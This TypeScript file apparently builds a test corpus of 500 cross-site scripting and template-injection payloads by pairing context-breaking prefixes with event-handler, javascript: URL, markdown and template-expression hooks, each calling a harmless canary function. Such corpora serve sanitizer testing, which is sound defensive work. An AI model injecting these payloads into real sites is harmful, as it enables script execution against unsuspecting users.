/** What a page runs, or makes an element of, that takes a text for HTML, an address, a script or a template. All of it calls `ran`. */
const hooks: readonly string[] = [
  "<script>ran()</script>",
  "<img data-planted src=x onerror=ran()>",
  "<svg data-planted onload=ran()>",
  '<iframe data-planted srcdoc="<script>parent.ran()</script>">',
  "<a data-planted href=javascript:ran()>open</a>",
  "<details data-planted open ontoggle=ran()>",
  "<input data-planted autofocus onfocus=ran()>",
  "<video data-planted><source onerror=ran()></video>",
  "<body data-planted onpageshow=ran()>",
  "<math data-planted><mtext><style><img onerror=ran() src=x>",
  "[open](javascript:ran())",
  '![x](x"onerror="ran())',
  "javascript:ran()",
  "<object data-planted data=javascript:ran()>",
  "<form data-planted action=javascript:ran()><button>",
  "<meta data-planted http-equiv=refresh content=0;url=x>",
  "<link data-planted rel=stylesheet href=data:,*{}>",
  "<style data-planted>@import 'data:,*{}'</style>",
  "<base data-planted href=//example.invalid>",
  "{{constructor.constructor('ran()')()}}",
  "${ran()}",
  "<svg data-planted><animate onbegin=ran() attributeName=x>",
  "<b data-planted onmouseover=ran()>bold</b>",
  "<audio data-planted src=x onerror=ran()>",
  "<p data-planted style=animation-name:x onanimationstart=ran()>",
];

/** What could end the place that a text stands in before it. */
const ends: readonly string[] = [
  "",
  '">',
  "'>",
  "-->",
  "</script>",
  "</textarea>",
  "</title>",
  "</style>",
  "]]>",
  "`",
  '\\"',
  "&quot;>",
  "**",
  "```\n",
  "| ",
  "\u2028",
  "%22%3E",
  '"} ',
  "*/ ",
  "<!--",
];

/** Every hook behind every end: 500. */
export const everyPayload: readonly string[] = hooks.flatMap((hook) => ends.map((end) => end + hook));

/** Every hook and every end at least once. */
export const fewPayloads: readonly string[] = hooks.map((hook, at) => ends[at % ends.length] + hook);
